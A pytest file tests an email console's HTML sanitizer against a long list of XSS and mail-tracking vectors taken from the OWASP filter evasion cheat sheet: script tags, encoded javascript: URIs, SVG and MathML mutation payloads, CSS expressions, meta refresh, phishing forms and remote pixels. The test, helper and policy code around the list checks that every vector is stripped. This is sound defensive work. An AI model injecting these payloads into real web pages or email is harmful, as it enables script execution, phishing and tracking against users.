"""The sanitizer of HTML bodies shown in the console, against hostile markup: vectors of the OWASP
XSS filter evasion cheat sheet and of mail (remote images, CSS ``url()``/``expression()``/
``@import``, SVG with script, ``<base href>``, meta refresh, ``data:`` HTML). Each output is
parsed as a browser would (HTML5, lexbor) and checked for anything that runs, submits or fetches;
the same check finds something in every input, so it can fail."""

from __future__ import annotations

import html as html_entities
import re

import pytest
from selectolax.lexbor import LexborHTMLParser

from emailops.mime.safe_html import BLOCKED_IMAGE, FRAME_CSP, IFRAME_SANDBOX, sanitize_html

HOSTILE = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
    "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A"
    "&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<BODY ONLOAD=alert('XSS')>",
    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="Link" Content="<http://xss.rocks/xss.css>; REL=stylesheet">',
    '<STYLE>BODY{-moz-binding:url("http://xss.rocks/xssmoz.xml#xss")}</STYLE>',
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<div style=\"width: expression(alert('XSS'));\">x</div>",
    "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
    '<div style="background:url(https://tracker.example/p.gif)">x</div>',
    '<div style="color: red; b\\ackground: u\\rl(https://tracker.example/p.gif)">x</div>',
    '<STYLE type="text/css">BODY{background:url("javascript:alert(\'XSS\')")}</STYLE>',
    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE><A CLASS=XSS></A>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" '
    'CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=https://phish.example/">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<embed src="javascript:alert(1)">',
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    '<TABLE><TD BACKGROUND="https://tracker.example/bg.png">',
    "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<base href="https://evil.example/"><a href="page">relative</a>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<form action="https://phish.example/"><input name="password"><button>Log in</button></form>',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<img srcset="https://tracker.example/a.png 1x, https://tracker.example/b.png 2x">',
    '<picture><source srcset="https://tracker.example/a.webp"><img src="cid:logo"></picture>',
    '<video poster="https://tracker.example/p.png" src="https://tracker.example/v.mp4"></video>',
    '<audio src="https://tracker.example/a.mp3" autoplay></audio>',
    '<a href="https://ok.example/" target="_top" ping="https://tracker.example/ping">link</a>',
    '<div onclick="alert(1)" onmouseover="alert(2)">x</div>',
    "<details open ontoggle=alert(1)>",
    '<p title="</p><script>alert(1)</script>">x</p><script>alert(2)</script>',
    '<img src="https://tracker.example/open.gif" width="1" height="1">',
    '<font face="x" style="color:expression(alert(1))">t</font>',
    '<a href="&#x6A;avascript:alert(1)">e</a>',
    "<x onfocus=alert(1) tabindex=1 autofocus>",
    '<object data="javascript:alert(1)">',
    '<applet code="x.class"></applet>',
    "<template><script>alert(1)</script></template>",
    '<link rel="prefetch" href="https://tracker.example/">',
    '<link rel="icon" href="https://tracker.example/favicon.ico">',
]

_LINK = re.compile(r"(?:https?://|mailto:)", re.IGNORECASE)
_OWN_IMAGE = re.compile(r"(?:/att/|data:image/(?:png|gif|jpeg|webp);base64,)", re.IGNORECASE)
_RUNS = {"script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button",
         "base", "meta", "link", "svg", "math", "style", "video", "audio", "source", "picture", "bgsound",
         "isindex", "select", "textarea", "template", "noscript"}  # fmt: skip
_FETCHES = {
    "srcset",
    "background",
    "poster",
    "dynsrc",
    "lowsrc",
    "ping",
    "data",
    "action",
    "formaction",
    "xlink:href",
}


def problems(markup: str) -> list[str]:
    """What in ``markup``, parsed as a browser would, could run, submit or fetch from elsewhere."""
    found = []
    tree = LexborHTMLParser(f"<!doctype html><html><head></head><body>{markup}</body></html>")
    for node in tree.root.traverse() if tree.root else ():
        if node.tag in _RUNS:
            found.append(f"<{node.tag}>")
        for name, value in (node.attributes or {}).items():
            name, value = name.lower(), html_entities.unescape(value or "")
            if name.startswith("on") or name in _FETCHES:
                found.append(f"{node.tag} {name}")
            allowed = _OWN_IMAGE if name == "src" else _LINK
            if name in ("href", "src", "cite") and not allowed.match(value):
                found.append(f"{node.tag} {name}={value!r}")
            if name == "style" and re.search(r"url|expr|@import|\\|/\*|binding|javascript", value, re.I):
                found.append(f"{node.tag} style={value!r}")
    return found


def sanitized(markup: str) -> str:
    return sanitize_html(markup, cid_url=lambda cid: f"/att/{cid}").html


@pytest.mark.parametrize("vector", HOSTILE)
def test_no_hostile_vector_survives(vector: str) -> None:
    assert problems(vector), f"the check finds nothing in the input itself: {vector}"
    output = sanitized(vector)
    assert problems(output) == [], output


def test_formatting_links_and_inline_images_are_kept() -> None:
    markup = (
        '<p style="color: rgb(200, 0, 0); font-weight: bold">Hello <b>Bob</b></p>'
        '<table border="1"><tr><td bgcolor="#eee">cell</td></tr></table>'
        '<a href="https://example.org/doc">doc</a> <a href="mailto:ann@example.org">mail</a>'
        '<img src="cid:logo@example.org" alt="logo" width="40">'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">'
    )
    output = sanitized(markup)
    assert '<p style="color:rgb(200, 0, 0);font-weight:bold">Hello <b>Bob</b></p>' in output
    assert '<td bgcolor="#eee">cell</td>' in output
    assert '<a href="https://example.org/doc" target="_blank" rel="noopener noreferrer">doc</a>' in output
    assert 'href="mailto:ann@example.org"' in output
    assert '<img src="/att/logo@example.org" alt="logo" width="40">' in output
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in output
    assert sanitize_html(markup, cid_url=lambda cid: f"/att/{cid}").remote_blocked == 0


def test_remote_content_is_blocked_and_counted_and_unknown_cid_dropped() -> None:
    result = sanitize_html(
        '<img src="https://tracker.example/o.gif" width="1"><img src="cid:gone">'
        '<p style="color:red;background:url(https://tracker.example/bg.png)">t</p>',
        cid_url=lambda cid: None,
    )
    assert result.html == f'<img src="{BLOCKED_IMAGE}" width="1"><img><p style="color:red">t</p>'
    assert result.remote_blocked == 2


def test_the_frame_policy_allows_no_script_no_fetch_elsewhere_and_sandboxes() -> None:
    directives = {part.split()[0]: part.split()[1:] for part in FRAME_CSP.split("; ")}
    assert directives["default-src"] == ["'none'"]
    assert directives["img-src"] == ["'self'", "data:"]
    assert directives["style-src"] == ["'unsafe-inline'"]
    assert directives["form-action"] == directives["base-uri"] == ["'none'"]
    assert "script-src" not in directives and "allow-scripts" not in directives["sandbox"]
    assert "allow-same-origin" not in directives["sandbox"] and "allow-scripts" not in IFRAME_SANDBOX
